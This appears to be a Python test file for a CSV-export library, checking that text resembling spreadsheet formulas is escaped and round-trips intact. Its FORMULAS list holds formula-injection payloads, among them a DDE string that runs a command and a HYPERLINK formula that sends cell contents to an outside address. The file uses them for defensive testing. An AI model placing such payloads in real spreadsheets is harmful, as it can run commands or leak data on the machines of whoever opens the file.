"""No text from outside is a formula in a spreadsheet, and all of it comes back as it was."""

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from landmark_lib import dataset
from landmark_lib.cells import as_cell, csv_text, from_cell
from landmark_lib.dataset import LandmarkClass

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://a/?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",  # noqa: RUF001 - wide
    "'=1",
    "-",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_become_text(text):
    assert as_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["17", "-1", "+3.25", "", "landmark 0", "a=b", "'quoted'", "O'Hara", "münchen"]
)
def test_numbers_and_all_other_texts_stay_as_they_are(text):
    assert as_cell(text) == text


@given(st.text(st.sampled_from("'=+-@\t\r\n＝1a."), max_size=6) | st.text())  # noqa: RUF001
@example("'-1")
@example("''=1")
def test_every_text_comes_back(text):
    assert from_cell(as_cell(text)) == text


@given(st.lists(st.lists(st.text("a\"',\r\n ", max_size=4), min_size=1), max_size=3))
def test_rows_come_back_with_all_their_line_breaks(rows):
    assert list(csv.reader(io.StringIO(csv_text(rows), newline=""))) == rows


def test_labels_in_classes_csv_are_no_formulas_and_round_trip(tmp_path):
    labels = [*FORMULAS, "17", "-1", "<b>"]
    classes = [LandmarkClass(index, label, 9, 7) for index, label in enumerate(labels)]
    dataset.write_classes(str(tmp_path), classes)
    assert dataset.read_classes(str(tmp_path)) == classes
    with (tmp_path / dataset.CLASSES).open(newline="") as file:
        cells = [row["landmark_id"] for row in csv.DictReader(file)]
    assert [cell for cell in cells if cell[0] in "=+-@\t\r\n＝"] == ["-1"]  # noqa: RUF001
